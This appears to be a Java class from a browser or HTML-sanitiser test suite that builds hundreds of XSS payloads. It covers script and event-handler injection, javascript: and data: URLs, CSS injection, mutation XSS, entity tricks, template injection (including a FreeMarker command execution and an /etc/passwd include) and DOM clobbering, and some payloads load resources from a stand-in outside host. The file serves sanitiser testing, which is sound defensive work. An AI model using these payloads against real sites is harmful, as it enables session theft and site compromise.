package org.backfile.browser;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/**
 * Attacks from the body of a page. The classes are those of OWASP's XSS filter evasion cheat sheet, html5sec.org and the bypasses that
 * DOMPurify's change log tells of; the payloads are multiplied out of parts, so that no spelling is tried on one element alone.
 */
final class BodyAttacks {

    private static final String URL = "https://" + Attack.OUTSIDE + "/";

    private final List<Attack> all = new ArrayList<>();

    private BodyAttacks() {}

    static List<Attack> all() {
        var attacks = new BodyAttacks();
        attacks.scripts();
        attacks.handlers();
        attacks.addresses();
        attacks.fetches();
        attacks.styles();
        attacks.mutations();
        attacks.entities();
        attacks.templates();
        attacks.clobbering();
        return Collections.unmodifiableList(attacks.all);
    }

    private void add(String kind, String html) {
        all.add(new Attack(kind, html));
    }

    private void scripts() {
        var tags =
                words("script SCRIPT ScRiPt script/x script\tx script\nx script\fx script/type=module script\ndefer");
        for (var tag : tags) {
            add("script", "<" + tag + ">ran(1)</script>");
            add("script", "<" + tag + ">ran(1)</script\n foo>");
            add("script", "<svg><" + tag + ">ran&lpar;1)</script></svg>");
            add("script", "<" + tag + " src=data:text/javascript,ran(1)></script>");
        }
        add("script", "<scr<script>ipt>ran(1)</scr</script>ipt>");
        add("script", "<script>ran(1)");
        add("script", "<<script>ran(1);//<</script>");
        add("script", "<script src=//" + Attack.OUTSIDE + "/x.js></script>");
        add("script", "<script\u0000>ran(1)</script>");
        add("script", "<math><script>ran(1)</script></math>");
        add("script", "<svg><script href='data:text/javascript,ran(1)'/></svg>");
        add("script", "<svg><script><![CDATA[ran(1)]]></script></svg>");
        add("script", "<svg><script><!--ran(1)//--></script></svg>");
        add("script", "<noscript><script>ran(1)</script></noscript><script>ran(1)</script>");
        add("script", "<table><script>ran(1)</script><tr><td>x</table>");
        add("script", "<select><script>ran(1)</script></select>");
        add("script", "<template><script>ran(1)</script></template><script>ran(1)</script>");
        add("script", "<!--[if true]><script>ran(1)</script><![endif]--><script>ran(1)</script>");
        add("script", "<!--><script>ran(1)</script-->");
        add("script", "<!--x--!><script>ran(1)</script>-->");
        add("script", "<? x ><script>ran(1)</script>");
        add("script", "</ x ><script>ran(1)</script>");
        add("script", "<a title='</a><script>ran(1)</script>'>x</a><script>ran(1)</script>");
    }

    private void handlers() {
        var elements = List.of(
                "<img src=x: ~onerror=@>",
                "<image src=x: ~onerror=@>",
                "<svg ~onload=@></svg>",
                "<svg><g><image href=x: ~onerror=@></g></svg>",
                "<svg><animate ~onbegin=@ attributeName=x dur=1s></svg>",
                "<svg><set ~onbegin=@ attributeName=x to=0></svg>",
                "<body ~onload=@>",
                "<body ~onpageshow=@>",
                "<video><source src=x: ~onerror=@></video>",
                "<video src=x: ~onerror=@></video>",
                "<audio src=x: ~onerror=@></audio>",
                "<details open ~ontoggle=@><summary>x</summary>y</details>",
                "<input autofocus ~onfocus=@>",
                "<select autofocus ~onfocus=@></select>",
                "<textarea autofocus ~onfocus=@></textarea>",
                "<x tabindex=1 autofocus ~onfocus=@>x</x>",
                "<marquee ~onstart=@>x</marquee>",
                "<object data=x: ~onerror=@></object>",
                "<iframe ~onload=@></iframe>",
                "<style ~onload=@></style>",
                "<p ~onclick=@>x</p>",
                "<em ~onmouseover=@>x</em>",
                "<blockquote ~onpointerover=@>x</blockquote>",
                "<a href=#x ~onclick=@>x</a>",
                "<table><tr><td ~onmouseover=@>x</td></tr></table>",
                "<form ~onsubmit=@><button>x</button></form>",
                "<button ~onclick=@>x</button>",
                "<math><mi ~onclick=@>x</mi></math>",
                "<figure ~onmouseover=@><figcaption ~onclick=@>x</figcaption></figure>",
                "<abbr title=x ~onmouseover=@>x</abbr>",
                "<p style='animation:x 1s' ~onanimationend=@>x</p>",
                "<ruby ~onclick=@>x<rt ~onclick=@>y</ruby>",
                "<dialog open ~onclick=@>x</dialog>",
                "<p contenteditable ~oninput=@ ~onfocus=@>x</p>");
        // Each in three of six spellings, so that neighbours have the others.
        for (int i = 0; i < elements.size(); i++) {
            var element = elements.get(i);
            var spelled = List.of(
                    element.replace("~", "").replace("@", "ran(1)"),
                    element.replace("~", "a=b/").replace("@", "'ran(1)'"),
                    element.replace("~on", "\noN").replace("@", "\"ran(1)\""),
                    element.replace("~", "\t").replace("@", "&#114;an&#x28;1&rpar;"),
                    element.replace("~", "title=\">\" ").replace("@", "ran`1`"),
                    element.replace("~", "x=`y z` ").replace("@", "\" \n alert(1)\""));
            for (int s = i % 2; s < spelled.size(); s += 2) add("handler", spelled.get(s));
        }
    }

    private void addresses() {
        var schemes = List.of(
                "javascript:ran(1)",
                "JaVaScRiPt:ran(1)",
                " javascript:ran(1)",
                "\u0001javascript:ran(1)",
                "java\tscript:ran(1)",
                "java&#10;script:ran(1)",
                "java&Tab;script&colon;ran(1)",
                "j&#x61;vascript&#58;ran(1)",
                "&#0000106avascript:ran(1)",
                "javascript://%0aran(1)",
                "javascript://good.example/%0d%0aran(1)",
                "javascript:/*https://*/ran(1)",
                "javascript&#x0003A;ran(1)",
                "vbscript:ran(1)",
                "data:text/html,<script>alert(1)</script>",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                "DATA:,x",
                "feed:javascript:ran(1)",
                "view-source:javascript:ran(1)",
                "blob:null/x",
                "filesystem:x",
                "file:///etc/passwd");
        var carriers = List.of(
                "<a href=\"@\">link</a>",
                "<a href=\"https://good.example/\" href=\"@\">link</a><a\nhref='@'>b</a>",
                "<map name=m><area shape=default href=\"@\"></map><img usemap=#m src=x: alt=x>",
                "<svg><a xlink:href=\"@\"><text y=20>link</text></a></svg>",
                "<svg><a><animate attributeName=href values=\"@\"/><text y=20>link</text></a></svg>",
                "<math><mi href=\"@\">link</mi></math>",
                "<form action=\"@\"><button>go</button></form>",
                "<form><button formaction=\"@\">go</button></form>",
                "<iframe src=\"@\"></iframe>",
                "<embed src=\"@\">",
                "<object data=\"@\"></object>",
                "<img src=\"@\" alt=x>",
                "<blockquote cite=\"@\">x</blockquote><q cite=\"@\">y</q>",
                "<base href=\"@//\"><a href=x>link</a>",
                "<meta http-equiv=refresh content=\"0;url=@\">",
                "<figure><a href=\"@\"><img src=\"@\" srcset=\"@ 2x\" alt=x></a><figcaption><a href=\"@\">x</a></figcaption></figure>",
                "<details><summary><a href=\"@\">x</a></summary><a href=\"@\">y</a></details>",
                "<ul><li><a href=\"@\">x</a></ul><table><tr><td><a href=\"@\" target=_self>y</a></table>");
        // Each carrier with a quarter of the schemes, each scheme on a quarter of the carriers, and the plain one on
        // all.
        for (int c = 0; c < carriers.size(); c++) {
            for (int s = 0; s < schemes.size(); s++) {
                if (s == 0 || (c + s) % 4 == 0) add("address", carriers.get(c).replace("@", quoted(schemes.get(s))));
            }
        }
    }

    private void fetches() {
        for (var rel :
                words("stylesheet prefetch preload dns-prefetch preconnect prerender icon manifest modulepreload"))
            add("fetch", "<link rel=" + rel + " as=script href=" + URL + "x.css>");
        var elements = List.of(
                "<img src=@ width=1 height=1>",
                "<img src=x.png srcset='@ 1x, @ 2x' alt=x>",
                "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= data-src=@ loading=lazy><img lowsrc=@ dynsrc=@ src=@>",
                "<picture><source srcset=@><img src=@></picture>",
                "<video src=@ poster=@ autoplay></video>",
                "<audio src=@ autoplay></audio><video><source src=@><track default src=@></video>",
                "<embed src=@>",
                "<object data=@><param name=src value=@></object>",
                "<iframe src=@></iframe>",
                "<iframe srcdoc='<img src=@>'></iframe>",
                "<input type=image src=@>",
                "<table background=@><tr><td background=@>x</table>",
                "<svg><image href=@ width=9 height=9></svg>",
                "<svg><image xlink:href=@ /><use href=@#x /></svg>",
                "<svg width=9 height=9><filter id=f><feImage href=@ /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
                "<meta http-equiv=refresh content='0;url=@'>",
                "<meta http-equiv=refresh content='0; URL=\"@\"'>",
                "<base href=@><img src=x.png>",
                "<a href=# ping=@>x</a>",
                "<body background=@>",
                "<script src=@></script>",
                "<noscript><img src=@></noscript><img src=@>",
                "<img src=//" + Attack.OUTSIDE + "/x.gif>",
                "<img src='\\\\" + Attack.OUTSIDE + "\\x.gif'>",
                "<img src='htt\nps://" + Attack.OUTSIDE + "/x.gif'>",
                "<img src='https:" + Attack.OUTSIDE + "/x.gif'>",
                "<figure><img src=@ alt=x><figcaption>x</figcaption></figure>",
                "<amp-img src=@></amp-img><img src=@>",
                "<p style='background:url(@)'>x</p>",
                "<math><mglyph src=@ /></math><img src=@>",
                "<frameset><frame src=@></frameset><iframe src=@></iframe>",
                "<portal src=@></portal><fencedframe src=@></fencedframe><img src=@>");
        for (var element : elements) add("fetch", element.replace("@", URL + "p.gif"));
    }

    private void styles() {
        var sheets = List.of(
                "background:url(@)",
                "background:u\\72l(@)",
                "background:url('@')",
                "background-image:image-set('@' 1x)",
                "list-style:url(@);display:list-item",
                "cursor:url(@),auto",
                "border-image:url(@) 1",
                "content:url(@)",
                "mask-image:url(@)",
                "behavior:url(@);background:url(@)",
                "-moz-binding:url(@#x);background:url(@)",
                "width:expression(ran(1));background:URL( @ )",
                "/**/background/**/:/**/url(@)/**/");
        for (var sheet : sheets) {
            var css = sheet.replace("@", URL + "c.png");
            add("style", "<p style=\"" + css + "\">styled</p>");
            add("style", "<style>p,div,body{" + css + "}</style>");
            add("style", "<svg><style>p,text{" + css + "}</style><text y=20>x</text></svg><p>x</p>");
        }
        add("style", "<style>@import '" + URL + "a.css';</style>");
        add("style", "<style>@import url(" + URL + "a.css) screen;</style>");
        add("style", "<style>@font-face{font-family:x;src:url(" + URL + "f.woff)}p{font-family:x}</style>");
        add("style", "<style><!--</style><img src=x: onerror=ran(1)>-->");
    }

    /** What a parser makes of it once is not what it makes of its own output: names that change their meaning by where they stand. */
    private void mutations() {
        var places = List.of(
                "<svg>@</svg>",
                "<math>@</math>",
                "<svg><desc>@</desc></svg>",
                "<svg><title>@</title></svg>",
                "<svg><foreignObject>@</foreignObject></svg>",
                "<math><mtext>@</mtext></math>",
                "<math><mi>@</mi></math>",
                "<math><mtext><table><mglyph>@</table></mtext></math>",
                "<math><mtext><form><mglyph>@</form></mtext></math>",
                "<math><annotation-xml encoding=\"text/html\">@</annotation-xml></math>",
                "<form><math><mtext></form><form><mglyph>@",
                "<table><caption><svg>@</table>",
                "<select><template>@</select>",
                "<p><svg></p>@",
                "<noscript>@</noscript>");
        var texts = words("style title textarea xmp noscript iframe noembed noframes script plaintext");
        for (int p = 0; p < places.size(); p++) {
            for (int t = p % 2; t < texts.size(); t += 2) {
                var text = texts.get(t);
                var inner = (p + t) % 4 < 2
                        ? "<" + text + "><a title=\"</" + text + "><img src=x: onerror=ran(1)>\">"
                        : "<" + text + "><!--</" + text + "><img title=\"--&gt;&lt;img src=x: onerror=ran(1)&gt;\">";
                add("mutation", places.get(p).replace("@", inner));
            }
        }
        add("mutation", "<a title=\"`><img src=x: onerror=ran(1)>\">x</a><img alt=\"``onerror=ran(1)\" src=x:>");
        add("mutation", "<![CDATA[<img src=x: onerror=ran(1)>]]><svg><![CDATA[><image href=x: onerror=ran(1)></svg>");
        add("mutation", "<listing>&lt;img onerror=ran(1) src=x:&gt;</listing>");
        add(
                "mutation",
                "<div>".repeat(600) + "<svg><style><img src=x: onerror=ran(1)></style></svg>" + "</div>".repeat(600));
        add("mutation", "<b><p><a><table><b></a><a onclick=ran(1)>x</table><img src=x: onerror=ran(1)>");
    }

    private void entities() {
        for (var tag : List.of("<script>ran(1)</script>", "<img src=x: onerror=ran(1)>", "<svg onload=ran(1)>")) {
            var named = tag.replace("<", "&lt;").replace(">", "&gt;");
            var twice = named.replace("&", "&amp;");
            var numbers = tag.replace("<", "&#60").replace(">", "&#x3E;");
            var padded = tag.replace("<", "&#x000003c").replace(">", "&#00062;");
            for (var text : List.of(named, twice, numbers, padded)) {
                add("entity", "<p>" + text + "</p>");
                add(
                        "entity",
                        "<figure><img src=p.png alt=\"" + text + "\"><figcaption>" + text + "</figcaption></figure>");
                add("entity", "<pre><code>" + text + "</code></pre><abbr title=\"" + text + "\">x</abbr>");
                add(
                        "entity",
                        "<math alttext=\"" + text + "\"><annotation encoding='application/x-tex'>" + text
                                + "</annotation><mi>x</mi></math>");
            }
        }
        add(
                "entity",
                "\u00ABscript\u00BB\uFF1Cscript\uFF1Eran(1)\uFF1C/script\uFF1E +ADw-script+AD4-ran(1)+ADw-/script+AD4-");
    }

    private void templates() {
        for (var text : List.of(
                "${1+1}",
                "#{1+1}",
                "[=1+1]",
                "&lt;#assign x=1>${x}",
                "<#include \"/etc/passwd\">",
                "<#-- gone --><@x/>",
                "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
                "{{constructor.constructor('ran(1)')()}}",
                "<%= ran(1) %>",
                "@{ran(1)}"))
            add("template", "<p>" + text + "</p><p title=\"" + text.replace("\"", "&quot;") + "\">x</p>");
    }

    /** Names that the site's own scripts ask the document for. */
    private void clobbering() {
        for (var name :
                words("q results theme search documentElement body forms currentScript cookie querySelector location"))
            add(
                    "clobbering",
                    "<form name=" + name + " id=" + name + "><input name=attributes><input id=" + name + " name="
                            + name + "></form><a id=" + name + " name=" + name
                            + " href='javascript:ran(1)'>x</a><img name=" + name
                            + ">");
    }

    private static String quoted(String address) {
        return address.replace("\"", "&quot;");
    }

    private static List<String> words(String text) {
        return List.of(text.split(" ", -1));
    }
}
